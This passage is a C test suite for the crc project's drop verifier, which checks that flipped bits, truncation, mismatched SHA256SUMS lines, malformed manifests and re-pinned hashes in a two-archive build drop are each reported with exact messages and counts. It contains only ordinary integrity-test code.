/* The drop verifier: a complete, valid drop is built here for every test (two targets, each staged tree
 * packed by crc_archive_write_tree, one tar.zst and one tar.gz, with flags.txt, manifest.yaml and
 * SHA256SUMS filled the way crc build fills them), then broken in every way a disk, a network or an
 * attacker can break it: flipped bits, truncation, missing, extra, renamed and replaced files, a
 * manifest re-pinned to tampered archives, SHA256SUMS that disagrees, hostile archives written here
 * with libarchive, and hostile manifests. Each test checks the return code, every problem (file, code,
 * message) in report order, and the counts, so that a check that stops at the first problem fails. */
#include <archive.h>
#include <archive_entry.h>
#include <criterion/criterion.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#include "crc/archive.h"
#include "crc/buf.h"
#include "crc/digest.h"
#include "crc/drop.h"
#include "crc/image.h"
#include "crc/manifest.h"
#include "crc/os.h"
#include "crc/verify.h"

/* 2023-11-14 22:13:20 UTC */
#define MTIME 1700000000LL
#define NT 2
/* Entries of each staged tree (see make_tree). */
#define NENTRIES 12
#define DROP_ID "20261122-0123456789ab-5e1f0c2a"
#define ART0 "noa-" DROP_ID "-x86_64-linux-gnu.tar.zst"
#define ART1 "noa-" DROP_ID "-aarch64-linux-gnu.tar.gz"
#define FLAGS "x86_64-linux-gnu: -Oz -flto\naarch64-linux-gnu: -Oz -flto\n"
#define H4(c) c c c c
#define H16(c) H4(c) H4(c) H4(c) H4(c)
#define H(c) H16(c) H16(c) H16(c) H16(c)

/* Target i: its triple, its archive's name in the drop and its format. x86_64 comes first in the
 * manifest and aarch64 second, the reverse of name order, so that manifest order can be told apart. */
static const char *const triples[NT] = {"x86_64-linux-gnu", "aarch64-linux-gnu"};
static const char *const art_names[NT] = {ART0, ART1};
static const enum crc_archive_format art_formats[NT] = {CRC_ARCHIVE_TAR_ZST, CRC_ARCHIVE_TAR_GZ};
static const char *features[] = {"low-power"};
static const char *emu_aarch64[] = {"qemu-aarch64", "-L", "/usr/aarch64-linux-gnu"};

/* A drop and what it was made from, in one scratch directory: drop/ is the drop, tree-<i>/ the staged
 * install of target i, other/ a place outside the drop. */
struct fixture {
	char root[64], drop[128], other[128], tree[NT][128];
	/* The hashes the manifest pins: own copies, so that re-pinning can change them. */
	char flags_sha[CRC_SHA256_HEX], art_sha[NT][CRC_SHA256_HEX];
	struct crc_manifest m;
	struct crc_manifest_target targets[NT];
	struct crc_manifest_artifact artifacts[NT];
	/* What crc_archive_write_tree reported; the manifest's entries point into it. */
	struct crc_archive_result archives[NT];
};

/* ---- Files ---------------------------------------------------------------------------------------- */

static void join(char *out, size_t size, const char *dir, const char *rel)
{
	int n = snprintf(out, size, "%s/%s", dir, rel);
	cr_assert(n > 0 && (size_t)n < size, "path too long: %s/%s", dir, rel);
}

/* Writes a new file dir/rel (replacing one that is there) with mode. */
static void put(const char *dir, const char *rel, const void *data, size_t n, unsigned mode)
{
	char p[512];
	struct crc_error err;
	join(p, sizeof p, dir, rel);
	cr_assert(unlink(p) == 0 || errno == ENOENT, "unlink %s: %s", p, strerror(errno));
	cr_assert_eq(crc_os_write_file(p, data, n, mode, &err), 0, "%s", err.msg);
	cr_assert_eq(chmod(p, mode), 0);
}

static void puts_(const char *dir, const char *rel, const char *text)
{
	put(dir, rel, text, strlen(text), 0644);
}

static void mkdir_(const char *dir, const char *rel)
{
	char p[512];
	join(p, sizeof p, dir, rel);
	cr_assert_eq(mkdir(p, 0755), 0, "mkdir %s: %s", p, strerror(errno));
}

static void unlink_(const char *dir, const char *rel)
{
	char p[512];
	join(p, sizeof p, dir, rel);
	cr_assert_eq(unlink(p), 0, "unlink %s: %s", p, strerror(errno));
}

/* Reads dir/rel whole into b (initialised here; the caller frees it). */
static void slurp(struct crc_buf *b, const char *dir, const char *rel)
{
	char p[512];
	struct crc_error err;
	join(p, sizeof p, dir, rel);
	crc_buf_init(b);
	cr_assert_eq(crc_os_read_file(b, p, (size_t)1 << 24, &err), 0, "%s", err.msg);
}

static void sha_of(char hex[CRC_SHA256_HEX], unsigned long long *size, const char *dir, const char *rel)
{
	char p[512];
	struct crc_error err;
	unsigned long long n;
	join(p, sizeof p, dir, rel);
	cr_assert_eq(crc_sha256_file(hex, size ? size : &n, p, &err), 0, "%s", err.msg);
}

static void sha_text(char hex[CRC_SHA256_HEX], const char *text, size_t n)
{
	struct crc_error err;
	cr_assert_eq(crc_sha256_buf(hex, text, n, &err), 0, "%s", err.msg);
}

static long long size_of_file(const char *dir, const char *rel)
{
	char p[512];
	struct stat st;
	join(p, sizeof p, dir, rel);
	cr_assert_eq(lstat(p, &st), 0, "%s: %s", p, strerror(errno));
	return (long long)st.st_size;
}

/* Flips one bit of the byte at off in dir/rel. */
static void flip(const char *dir, const char *rel, long long off, unsigned bit)
{
	char p[512];
	unsigned char c;
	join(p, sizeof p, dir, rel);
	int fd = open(p, O_RDWR);
	cr_assert_geq(fd, 0, "%s: %s", p, strerror(errno));
	cr_assert_eq(pread(fd, &c, 1, (off_t)off), 1);
	c = (unsigned char)(c ^ (1u << bit));
	cr_assert_eq(pwrite(fd, &c, 1, (off_t)off), 1);
	cr_assert_eq(close(fd), 0);
}

static void truncate_(const char *dir, const char *rel, long long size)
{
	char p[512];
	join(p, sizeof p, dir, rel);
	cr_assert_eq(truncate(p, (off_t)size), 0, "%s: %s", p, strerror(errno));
}

static void append(const char *dir, const char *rel, const char *text)
{
	char p[512];
	join(p, sizeof p, dir, rel);
	int fd = open(p, O_WRONLY | O_APPEND);
	cr_assert_geq(fd, 0, "%s: %s", p, strerror(errno));
	cr_assert_eq(write(fd, text, strlen(text)), (ssize_t)strlen(text));
	cr_assert_eq(close(fd), 0);
}

/* Moves dir/rel to the same name in to. */
static void move(const char *dir, const char *rel, const char *to)
{
	char a[512], b[512];
	join(a, sizeof a, dir, rel);
	join(b, sizeof b, to, rel);
	cr_assert_eq(rename(a, b), 0, "rename %s %s: %s", a, b, strerror(errno));
}

/* ---- The fixture ---------------------------------------------------------------------------------- */

/* The staged install of one target: 12 entries, among them an executable and a relative symlink. */
static void make_tree(const char *dir, const char *triple)
{
	char text[256];
	cr_assert_eq(mkdir(dir, 0755), 0);
	mkdir_(dir, "bin");
	mkdir_(dir, "include");
	mkdir_(dir, "include/noa");
	mkdir_(dir, "lib");
	mkdir_(dir, "share");
	mkdir_(dir, "share/noa");
	snprintf(text, sizeof text, "#!/bin/sh\necho 'noa for %s'\n", triple);
	put(dir, "bin/noa", text, strlen(text), 0755);
	snprintf(text, sizeof text, "!<arch>\nlibnoa for %s\n", triple);
	puts_(dir, "lib/libnoa.a", text);
	puts_(dir, "include/noa/noa.h", "#define NOA_H 1\n");
	puts_(dir, "share/noa/policy.yaml", "policy: default\n");
	snprintf(text, sizeof text, "noa for %s\n", triple);
	puts_(dir, "README", text);
	char link[512];
	join(link, sizeof link, dir, "lib/libnoa.so");
	cr_assert_eq(symlink("libnoa.a", link), 0);
}

/* Pins archive i in the manifest from archives[i]: its size and hash and every entry (as pack() in
 * crc/cli/cmd_build.c does). */
static void pin_entries(struct fixture *f, size_t i)
{
	const struct crc_archive_result *ar = &f->archives[i];
	struct crc_manifest_artifact *a = &f->artifacts[i];
	free(a->entries);
	memcpy(f->art_sha[i], ar->sha256, sizeof f->art_sha[i]);
	a->path = art_names[i];
	a->target = triples[i];
	a->format = crc_archive_format_name(art_formats[i]);
	a->size = ar->size;
	a->sha256 = f->art_sha[i];
	a->nentries = ar->nentries;
	a->entries = calloc(ar->nentries ? ar->nentries : 1, sizeof *a->entries);
	cr_assert_not_null(a->entries);
	for (size_t k = 0; k < ar->nentries; k++) {
		const struct crc_archive_entry *e = &ar->entries[k];
		a->entries[k].path = e->path;
		a->entries[k].type = e->type;
		a->entries[k].mode = e->mode;
		a->entries[k].size = e->size;
		a->entries[k].sha256 = e->sha256;
		a->entries[k].link = e->link ? e->link : "";
	}
}

/* Packs tree i into the drop as archive i (replacing it) and pins it, entries included. */
static void pack(struct fixture *f, size_t i)
{
	char out[512];
	struct crc_error err;
	join(out, sizeof out, f->drop, art_names[i]);
	cr_assert(unlink(out) == 0 || errno == ENOENT);
	crc_archive_result_free(&f->archives[i]);
	cr_assert_eq(crc_archive_write_tree(&f->archives[i], out, f->tree[i], art_formats[i], MTIME, &err), 0,
		     "%s", err.msg);
	pin_entries(f, i);
}

/* Pins archive i at the archive level only: the manifest gets the file's new size and hash, while its
 * entries stay those of the archive that was there before. */
static void pin_archive_only(struct fixture *f, size_t i)
{
	sha_of(f->art_sha[i], &f->artifacts[i].size, f->drop, art_names[i]);
}

/* Packs tree i (changed by the caller) into a new archive i, pinned at the archive level only. */
static void repack_archive_only(struct fixture *f, size_t i)
{
	char out[512];
	struct crc_archive_result res;
	struct crc_error err;
	join(out, sizeof out, f->other, art_names[i]);
	cr_assert_eq(crc_archive_write_tree(&res, out, f->tree[i], art_formats[i], MTIME, &err), 0, "%s",
		     err.msg);
	crc_archive_result_free(&res);
	move(f->other, art_names[i], f->drop);
	pin_archive_only(f, i);
}

/* Fills the manifest (without artifacts) as describe() in crc/cli/cmd_build.c does. */
static void describe(struct fixture *f)
{
	struct crc_manifest *m = &f->m;
	m->schema = CRC_MANIFEST_SCHEMA;
	m->drop_id = DROP_ID;
	m->profile = "edge";
	m->created = "2026-11-22T10:00:00Z";
	m->crc_version = "0.1.0";
	m->source.commit = "0123456789abcdef0123456789abcdef01234567";
	m->source.dirty = 0;
	m->source.tree_sha256 = H("e");
	m->optimization.opt_level = "z";
	m->optimization.lto = "fat";
	m->optimization.codegen_units = 1;
	m->optimization.strip = 1;
	m->optimization.debug_info = 0;
	m->features = (struct crc_strlist){1, features};
	m->flags_sha256 = f->flags_sha;
	m->ntargets = NT;
	m->targets = f->targets;
	for (size_t i = 0; i < NT; i++) {
		struct crc_manifest_target *t = &f->targets[i];
		t->triple = triples[i];
		t->compiler = i ? "aarch64-linux-gnu-gcc" : "gcc";
		t->compiler_version = "gcc (Debian 12.2.0-14) 12.2.0";
		t->dialect = "gcc";
		t->emulator = i ? (struct crc_strlist){3, emu_aarch64} : (struct crc_strlist){0, NULL};
		t->smoke.ok = 1;
		t->smoke.noa_version = "0.1.0";
		t->smoke.triple = triples[i];
		t->smoke.profile = "edge";
		t->smoke.opt_level = "z";
		t->smoke.lto = "fat";
		t->smoke.features = (struct crc_strlist){1, features};
		t->smoke.target_kind = "native";
	}
	m->nartifacts = NT;
	m->artifacts = f->artifacts;
}

/* Writes manifest.yaml from the in-memory manifest and SHA256SUMS over the artifacts, flags.txt and
 * manifest.yaml, replacing both (as write_metadata() in crc/cli/cmd_build.c does). After a change to the
 * manifest, this is the "re-pin" of an attacker who makes every hash match the files he tampered with. */
static void repin(struct fixture *f)
{
	struct crc_buf b;
	struct crc_error err;
	char msha[CRC_SHA256_HEX];
	crc_buf_init(&b);
	cr_assert_eq(crc_manifest_write(&b, &f->m, &err), 0, "%s", err.msg);
	put(f->drop, "manifest.yaml", b.data, b.len, 0644);
	sha_text(msha, b.data, b.len);
	crc_buf_free(&b);
	const char *names[] = {art_names[0], art_names[1], "flags.txt", "manifest.yaml"};
	const char *sums[] = {f->art_sha[0], f->art_sha[1], f->flags_sha, msha};
	crc_buf_init(&b);
	cr_assert_eq(crc_manifest_sha256sums(&b, names, sums, 4, &err), 0, "%s", err.msg);
	put(f->drop, "SHA256SUMS", b.data, b.len, 0644);
	crc_buf_free(&b);
}

static void fixture_init(struct fixture *f)
{
	memset(f, 0, sizeof *f);
	snprintf(f->root, sizeof f->root, "/tmp/crc-verify-XXXXXX");
	cr_assert_not_null(mkdtemp(f->root));
	join(f->drop, sizeof f->drop, f->root, "drop");
	join(f->other, sizeof f->other, f->root, "other");
	cr_assert_eq(mkdir(f->drop, 0755), 0);
	cr_assert_eq(mkdir(f->other, 0755), 0);
	for (size_t i = 0; i < NT; i++) {
		join(f->tree[i], sizeof f->tree[i], f->root, triples[i]);
		make_tree(f->tree[i], triples[i]);
		pack(f, i);
	}
	puts_(f->drop, "flags.txt", FLAGS);
	sha_text(f->flags_sha, FLAGS, strlen(FLAGS));
	describe(f);
	repin(f);
}

static void fixture_free(struct fixture *f)
{
	struct crc_error err;
	cr_assert_eq(crc_os_remove_tree(f->root, &err), 0, "%s", err.msg);
	for (size_t i = 0; i < NT; i++) {
		free(f->artifacts[i].entries);
		crc_archive_result_free(&f->archives[i]);
	}
}

/* The index of the entry path of archive i in the manifest. */
static size_t entry_index(const struct fixture *f, size_t i, const char *path)
{
	for (size_t k = 0; k < f->artifacts[i].nentries; k++)
		if (strcmp(f->artifacts[i].entries[k].path, path) == 0)
			return k;
	cr_assert_fail("no entry %s", path);
	return 0;
}

/* ---- Checking and what it reports ----------------------------------------------------------------- */

static int check(struct crc_verify_report *r, const char *dir, int deep, int allow_extra, size_t threads,
		 struct crc_error *err)
{
	struct crc_verify_options o = {.deep = deep, .allow_extra = allow_extra, .threads = threads};
	return crc_verify_drop(r, dir, &o, err);
}

static void dump(const struct crc_verify_report *r)
{
	for (size_t i = 0; i < r->nproblems; i++)
		fprintf(stderr, "  problem %zu: %s: %s (%d)\n", i, r->problems[i].file, r->problems[i].msg,
			r->problems[i].code);
}

/* Exactly n problems, m of them mismatches and u unreadable files, none dropped. */
static void counts(const struct crc_verify_report *r, size_t n, size_t m, size_t u)
{
	if (r->nproblems != n || r->mismatches != m || r->unreadable != u)
		dump(r);
	cr_assert_eq(r->nproblems, n, "%zu problems, expected %zu", r->nproblems, n);
	cr_assert_eq(r->mismatches, m, "%zu mismatches, expected %zu", r->mismatches, m);
	cr_assert_eq(r->unreadable, u, "%zu unreadable, expected %zu", r->unreadable, u);
	cr_assert_eq(r->dropped, 0);
}

/* Problem i is about file, with code and exactly the message want. */
static void problem_is(const struct crc_verify_report *r, size_t i, const char *file, int code,
		       const char *want)
{
	if (i >= r->nproblems)
		dump(r);
	cr_assert_lt(i, r->nproblems, "no problem %zu", i);
	if (strcmp(r->problems[i].file, file) != 0 || strcmp(r->problems[i].msg, want) != 0)
		dump(r);
	cr_assert_str_eq(r->problems[i].file, file, "problem %zu", i);
	cr_assert_str_eq(r->problems[i].msg, want, "problem %zu", i);
	cr_assert_eq(r->problems[i].code, code, "problem %zu: code %d", i, r->problems[i].code);
}

/* Like problem_is, for a message that starts with prefix. */
static void problem_starts(const struct crc_verify_report *r, size_t i, const char *file, int code,
			   const char *prefix)
{
	if (i >= r->nproblems)
		dump(r);
	cr_assert_lt(i, r->nproblems, "no problem %zu", i);
	cr_assert_str_eq(r->problems[i].file, file, "problem %zu", i);
	cr_assert_eq(strncmp(r->problems[i].msg, prefix, strlen(prefix)), 0, "problem %zu: '%s' not '%s...'",
		     i, r->problems[i].msg, prefix);
	cr_assert_eq(r->problems[i].code, code, "problem %zu: code %d", i, r->problems[i].code);
}

/* The report's file i: its name, kind and whether it held. */
static void file_is(const struct crc_verify_report *r, size_t i, const char *name, const char *kind, int ok)
{
	cr_assert_lt(i, r->nfiles);
	cr_assert_str_eq(r->files[i].name, name, "file %zu", i);
	cr_assert_str_eq(r->files[i].kind, kind, "file %zu", i);
	cr_assert_eq(r->files[i].ok, ok, "file %zu (%s): ok %d", i, name, r->files[i].ok);
}

/* Two reports say the same, field by field. */
static void same_report(const struct crc_verify_report *a, const struct crc_verify_report *b)
{
	cr_assert_eq(a->nfiles, b->nfiles);
	for (size_t i = 0; i < a->nfiles; i++) {
		const struct crc_verify_file *x = &a->files[i], *y = &b->files[i];
		cr_assert_str_eq(x->name, y->name);
		cr_assert_str_eq(x->kind, y->kind);
		cr_assert_eq(x->size, y->size);
		cr_assert_eq(x->expected_size, y->expected_size);
		cr_assert_str_eq(x->sha256, y->sha256);
		cr_assert_str_eq(x->expected_sha256, y->expected_sha256);
		cr_assert_eq(x->entries, y->entries);
		cr_assert_eq(x->ok, y->ok);
	}
	cr_assert_eq(a->nproblems, b->nproblems);
	for (size_t i = 0; i < a->nproblems; i++) {
		cr_assert_str_eq(a->problems[i].file, b->problems[i].file);
		cr_assert_str_eq(a->problems[i].msg, b->problems[i].msg);
		cr_assert_eq(a->problems[i].code, b->problems[i].code);
	}
	cr_assert_eq(a->mismatches, b->mismatches);
	cr_assert_eq(a->unreadable, b->unreadable);
	cr_assert_eq(a->bytes, b->bytes);
}

/* "sha256 mismatch: expected <want> got <got>" */
static void sha_mismatch(char *out, size_t size, const char *want, const char *got)
{
	int n = snprintf(out, size, "sha256 mismatch: expected %s got %s", want, got);
	cr_assert(n > 0 && (size_t)n < size);
}

/* ---- A valid drop --------------------------------------------------------------------------------- */

Test(verify, valid_drop_passes_shallow_and_deep_with_any_threads)
{
	struct fixture f;
	struct crc_verify_report r[4];
	struct crc_error err;
	fixture_init(&f);
	static const size_t threads[] = {1, 4};
	unsigned long long total =
		(unsigned long long)(size_of_file(f.drop, "manifest.yaml") +
				     size_of_file(f.drop, "flags.txt") + size_of_file(f.drop, ART0) +
				     size_of_file(f.drop, ART1) + size_of_file(f.drop, "SHA256SUMS"));
	for (int deep = 0; deep <= 1; deep++) {
		for (size_t t = 0; t < 2; t++) {
			struct crc_verify_report *x = &r[deep * 2 + (int)t];
			cr_assert_eq(check(x, f.drop, deep, 0, threads[t], &err), 0, "%s", err.msg);
			counts(x, 0, 0, 0);
			cr_assert_not_null(x->manifest);
			cr_assert_str_eq(x->manifest->drop_id, DROP_ID);
			cr_assert_eq(x->manifest->nartifacts, NT);
			cr_assert_eq(x->nfiles, 5);
			file_is(x, 0, "manifest.yaml", "manifest", 1);
			file_is(x, 1, "flags.txt", "flags", 1);
			file_is(x, 2, ART0, "artifact", 1);
			file_is(x, 3, ART1, "artifact", 1);
			file_is(x, 4, "SHA256SUMS", "sums", 1);
			cr_assert_str_eq(x->files[1].sha256, f.flags_sha);
			cr_assert_str_eq(x->files[1].expected_sha256, f.flags_sha);
			cr_assert_eq(x->files[1].size, strlen(FLAGS));
			for (size_t i = 0; i < NT; i++) {
				const struct crc_verify_file *a = &x->files[2 + i];
				cr_assert_eq(a->size, f.archives[i].size);
				cr_assert_eq(a->expected_size, f.archives[i].size);
				cr_assert_str_eq(a->sha256, f.archives[i].sha256);
				cr_assert_str_eq(a->expected_sha256, f.archives[i].sha256);
				/* Deep: every entry of every archive compared. */
				cr_assert_eq(a->entries, deep ? NENTRIES : 0, "%s: %zu entries", a->name,
					     a->entries);
			}
			cr_assert_eq(x->bytes, total);
		}
	}
	/* The same report whatever the number of threads. */
	same_report(&r[0], &r[1]);
	same_report(&r[2], &r[3]);
	for (size_t i = 0; i < 4; i++)
		crc_verify_report_free(&r[i]);
	/* No options: a shallow check. */
	cr_assert_eq(crc_verify_drop(&r[0], f.drop, NULL, &err), 0, "%s", err.msg);
	counts(&r[0], 0, 0, 0);
	cr_assert_eq(r[0].files[2].entries, 0);
	crc_verify_report_free(&r[0]);
	fixture_free(&f);
}

Test(verify, leaves_the_signature_to_the_caller)
{
	struct fixture f;
	struct crc_verify_report r;
	struct crc_error err;
	fixture_init(&f);
	/* manifest.yaml.sig is neither checked nor an extra file: the CLI checks it (crc/sign.h). */
	puts_(f.drop, "manifest.yaml.sig", "not a signature at all\n");
	cr_assert_eq(check(&r, f.drop, 1, 0, 1, &err), 0, "%s", err.msg);
	counts(&r, 0, 0, 0);
	cr_assert_eq(r.nfiles, 5);
	/* The caller's finding joins the report after the drop's own. */
	cr_assert_eq(crc_verify_add_problem(&r, "manifest.yaml.sig", CRC_EVERIFY, "bad signature"), 0);
	counts(&r, 1, 1, 0);
	problem_is(&r, 0, "manifest.yaml.sig", CRC_EVERIFY, "bad signature");
	crc_verify_report_free(&r);
	fixture_free(&f);
}

/* ---- Flipped bits --------------------------------------------------------------------------------- */

Test(verify, flipped_bit_in_each_archive_is_a_sha256_mismatch)
{
	struct crc_verify_report r;
	struct crc_error err;
	char got[CRC_SHA256_HEX], want[256];
	for (size_t i = 0; i < NT; i++) {
		struct fixture f;
		fixture_init(&f);
		flip(f.drop, art_names[i], size_of_file(f.drop, art_names[i]) / 2, 2);
		sha_of(got, NULL, f.drop, art_names[i]);
		sha_mismatch(want, sizeof want, f.art_sha[i], got);
		cr_assert_eq(check(&r, f.drop, 0, 0, 1, &err), CRC_EVERIFY, "%s", err.msg);
		cr_assert_str_eq(err.msg, "1 problem");
		counts(&r, 1, 1, 0);
		problem_is(&r, 0, art_names[i], CRC_EVERIFY, want);
		file_is(&r, 2 + i, art_names[i], "artifact", 0);
		file_is(&r, 3 - i, art_names[1 - i], "artifact", 1);
		cr_assert_str_eq(r.files[2 + i].sha256, got);
		crc_verify_report_free(&r);
		/* Deep: the same mismatch first, then what the corrupt stream does to the listing (the bytes
		 * depend on the compressor's version, so only that something more is found, on this file). */
		cr_assert_eq(check(&r, f.drop, 1, 0, 1, &err), CRC_EVERIFY, "%s", err.msg);
		problem_is(&r, 0, art_names[i], CRC_EVERIFY, want);
		cr_assert_geq(r.nproblems, 2, "%s: the deep check found nothing in the archive",
			      art_names[i]);
		for (size_t k = 0; k < r.nproblems; k++)
			problem_starts(&r, k, art_names[i], CRC_EVERIFY, "");
		cr_assert_eq(r.mismatches, r.nproblems);
		cr_assert_eq(r.unreadable, 0);
		crc_verify_report_free(&r);
		fixture_free(&f);
	}
}

Test(verify, flipped_bit_in_flags_txt_is_a_sha256_mismatch)
{
	struct fixture f;
	struct crc_verify_report r;
	struct crc_error err;
	char got[CRC_SHA256_HEX], want[256];
	fixture_init(&f);
	flip(f.drop, "flags.txt", 3, 0);
	sha_of(got, NULL, f.drop, "flags.txt");
	sha_mismatch(want, sizeof want, f.flags_sha, got);
	cr_assert_eq(check(&r, f.drop, 1, 0, 4, &err), CRC_EVERIFY, "%s", err.msg);
	counts(&r, 1, 1, 0);
	problem_is(&r, 0, "flags.txt", CRC_EVERIFY, want);
	file_is(&r, 1, "flags.txt", "flags", 0);
	crc_verify_report_free(&r);
	fixture_free(&f);
}

/* The 1-based line and column of offset at in text. */
static void position(const char *text, size_t at, int *line, int *col)
{
	*line = 1;
	*col = 1;
	for (size_t i = 0; i < at; i++, (*col)++)
		if (text[i] == '\n')
			(*line)++, *col = 0;
}

/* The offset in text of the first character of the 64-digit hash at hash whose bit 0 flips it into
 * another hex digit (a digit, or b to e). */
static size_t flippable(const char *text, const char *hash)
{
	const char *at = strstr(text, hash);
	cr_assert_not_null(at, "%s not found", hash);
	for (size_t k = 0; k < 64; k++)
		if ((at[k] >= '0' && at[k] <= '9') || (at[k] >= 'b' && at[k] <= 'e'))
			return (size_t)(at - text) + k;
	cr_assert_fail("no flippable digit in %s", hash);
	return 0;
}

Test(verify, flipped_bit_in_sha256sums_is_reported_by_line)
{
	struct fixture f;
	struct crc_verify_report r;
	struct crc_error err;
	struct crc_buf b;
	char want[512], wrong[CRC_SHA256_HEX];
	fixture_init(&f);
	/* A hash digit: line 3 is ART1 (names sorted: flags.txt, manifest.yaml, ART1, ART0). */
	slurp(&b, f.drop, "SHA256SUMS");
	size_t at = flippable(b.data, f.art_sha[1]);
	int line, col;
	position(b.data, at, &line, &col);
	cr_assert_eq(line, 3, "line 3 holds ART1");
	memcpy(wrong, f.art_sha[1], sizeof wrong);
	size_t k = at - (size_t)(strstr(b.data, f.art_sha[1]) - b.data);
	wrong[k] = (char)(wrong[k] ^ 1);
	crc_buf_free(&b);
	flip(f.drop, "SHA256SUMS", (long long)at, 0);
	snprintf(want, sizeof want,
		 "line 3: sha256 of '%s' disagrees with manifest.yaml: lists %s, expected %s", ART1, wrong,
		 f.art_sha[1]);
	cr_assert_eq(check(&r, f.drop, 0, 0, 1, &err), CRC_EVERIFY, "%s", err.msg);
	counts(&r, 1, 1, 0);
	problem_is(&r, 0, "SHA256SUMS", CRC_EVERIFY, want);
	file_is(&r, 4, "SHA256SUMS", "sums", 0);
	/* The artifact itself still holds: SHA256SUMS is only compared with the manifest. */
	file_is(&r, 3, ART1, "artifact", 1);
	crc_verify_report_free(&r);
	flip(f.drop, "SHA256SUMS", (long long)at, 0);
	/* The second space of line 1 turned into '!': the line no longer parses. */
	flip(f.drop, "SHA256SUMS", 65, 0);
	cr_assert_eq(check(&r, f.drop, 0, 0, 1, &err), CRC_EVERIFY, "%s", err.msg);
	counts(&r, 1, 1, 0);
	problem_is(&r, 0, "SHA256SUMS", CRC_EVERIFY,
		   "line 1: malformed: expected two spaces (or a space and '*') after the SHA-256, then the "
		   "file "
		   "name");
	crc_verify_report_free(&r);
	fixture_free(&f);
}

Test(verify, flipped_bit_in_manifest_that_breaks_parsing_is_invalid_with_its_position)
{
	struct fixture f;
	struct crc_verify_report r;
	struct crc_error err;
	struct crc_buf b;
	char where[64];
	int line, col;
	fixture_init(&f);
	/* The newline that ends line 2 becomes a vertical tab (0x0b), a control character YAML refuses. */
	slurp(&b, f.drop, "manifest.yaml");
	const char *nl = strchr(strchr(b.data, '\n') + 1, '\n');
	size_t at = (size_t)(nl - b.data);
	position(b.data, at, &line, &col);
	crc_buf_free(&b);
	cr_assert_eq(line, 2);
	flip(f.drop, "manifest.yaml", (long long)at, 0);
	for (int deep = 0; deep <= 1; deep++) {
		cr_assert_eq(check(&r, f.drop, deep, 0, 1, &err), CRC_EINVALID, "%s", err.msg);
		counts(&r, 1, 0, 1);
		snprintf(where, sizeof where, "manifest.yaml:%d:%d", line, col);
		problem_is(&r, 0, where, CRC_EINVALID, "control characters are not allowed (byte 0x0b)");
		cr_assert_str_eq(err.msg, "control characters are not allowed (byte 0x0b)");
		cr_assert_str_eq(err.path, "manifest.yaml");
		cr_assert_eq(err.line, line);
		cr_assert_eq(err.col, col);
		cr_assert_null(r.manifest);
		/* Nothing else can be checked without the manifest. */
		cr_assert_eq(r.nfiles, 1);
		file_is(&r, 0, "manifest.yaml", "manifest", 0);
		crc_verify_report_free(&r);
	}
	fixture_free(&f);
}

Test(verify, flipped_bit_in_manifest_that_changes_a_hash_is_a_mismatch_everywhere_it_shows)
{
	struct fixture f;
	struct crc_verify_report r;
	struct crc_error err;
	struct crc_buf b;
	char want[512], flipped[CRC_SHA256_HEX], old_msha[CRC_SHA256_HEX], new_msha[CRC_SHA256_HEX];
	fixture_init(&f);
	sha_of(old_msha, NULL, f.drop, "manifest.yaml");
	/* A digit of the x86_64 archive's hash: the manifest still parses, and now pins another hash. */
	slurp(&b, f.drop, "manifest.yaml");
	size_t at = flippable(b.data, f.art_sha[0]);
	memcpy(flipped, strstr(b.data, f.art_sha[0]), 64);
	flipped[64] = '\0';
	flipped[at - (size_t)(strstr(b.data, f.art_sha[0]) - b.data)] ^= 1;
	crc_buf_free(&b);
	flip(f.drop, "manifest.yaml", (long long)at, 0);
	sha_of(new_msha, NULL, f.drop, "manifest.yaml");
	cr_assert_eq(check(&r, f.drop, 0, 0, 4, &err), CRC_EVERIFY, "%s", err.msg);
	cr_assert_str_eq(err.msg, "3 problems");
	counts(&r, 3, 3, 0);
	sha_mismatch(want, sizeof want, flipped, f.art_sha[0]);
	problem_is(&r, 0, ART0, CRC_EVERIFY, want);
	snprintf(want, sizeof want,
		 "line 2: sha256 of 'manifest.yaml' disagrees with manifest.yaml: lists %s, expected %s",
		 old_msha, new_msha);
	problem_is(&r, 1, "SHA256SUMS", CRC_EVERIFY, want);
	snprintf(want, sizeof want,
		 "line 4: sha256 of '%s' disagrees with manifest.yaml: lists %s, expected %s", ART0,
		 f.art_sha[0], flipped);
	problem_is(&r, 2, "SHA256SUMS", CRC_EVERIFY, want);
	crc_verify_report_free(&r);
	/* Flipped back, then a digit of a value that pins nothing (the year of 'created'): only SHA256SUMS,
	 * which pins the manifest itself, can tell. */
	flip(f.drop, "manifest.yaml", (long long)at, 0);
	slurp(&b, f.drop, "manifest.yaml");
	at = (size_t)(strstr(b.data, "2026-11-22T10:00:00Z") - b.data) + 3;
	crc_buf_free(&b);
	flip(f.drop, "manifest.yaml", (long long)at, 0);
	sha_of(new_msha, NULL, f.drop, "manifest.yaml");
	cr_assert_eq(check(&r, f.drop, 1, 0, 1, &err), CRC_EVERIFY, "%s", err.msg);
	counts(&r, 1, 1, 0);
	cr_assert_str_eq(r.manifest->created, "2027-11-22T10:00:00Z");
	snprintf(want, sizeof want,
		 "line 2: sha256 of 'manifest.yaml' disagrees with manifest.yaml: lists %s, expected %s",
		 old_msha, new_msha);
	problem_is(&r, 0, "SHA256SUMS", CRC_EVERIFY, want);
	crc_verify_report_free(&r);
	fixture_free(&f);
}

/* ---- Truncated, extended, missing, extra, renamed, replaced --------------------------------------- */

Test(verify, truncated_or_extended_archive_is_a_size_mismatch)
{
	struct crc_verify_report r;
	struct crc_error err;
	char want[256];
	for (size_t i = 0; i < NT; i++) {
		struct fixture f;
		fixture_init(&f);
		unsigned long long size = f.archives[i].size;
		truncate_(f.drop, art_names[i], (long long)size - 10);
		snprintf(want, sizeof want, "size mismatch: expected %llu bytes got %llu", size, size - 10);
		cr_assert_eq(check(&r, f.drop, 0, 0, 1, &err), CRC_EVERIFY, "%s", err.msg);
		counts(&r, 1, 1, 0);
		problem_is(&r, 0, art_names[i], CRC_EVERIFY, want);
		cr_assert_eq(r.files[2 + i].size, size - 10);
		crc_verify_report_free(&r);
		/* Deep: the size first; a cut stream may or may not still list, but any more is about it. */
		cr_assert_eq(check(&r, f.drop, 1, 0, 1, &err), CRC_EVERIFY, "%s", err.msg);
		problem_is(&r, 0, art_names[i], CRC_EVERIFY, want);
		for (size_t k = 0; k < r.nproblems; k++)
			problem_starts(&r, k, art_names[i], CRC_EVERIFY, "");
		crc_verify_report_free(&r);
		pack(&f, i);
		append(f.drop, art_names[i], "extra");
		snprintf(want, sizeof want, "size mismatch: expected %llu bytes got %llu", size, size + 5);
		cr_assert_eq(check(&r, f.drop, 0, 0, 1, &err), CRC_EVERIFY, "%s", err.msg);
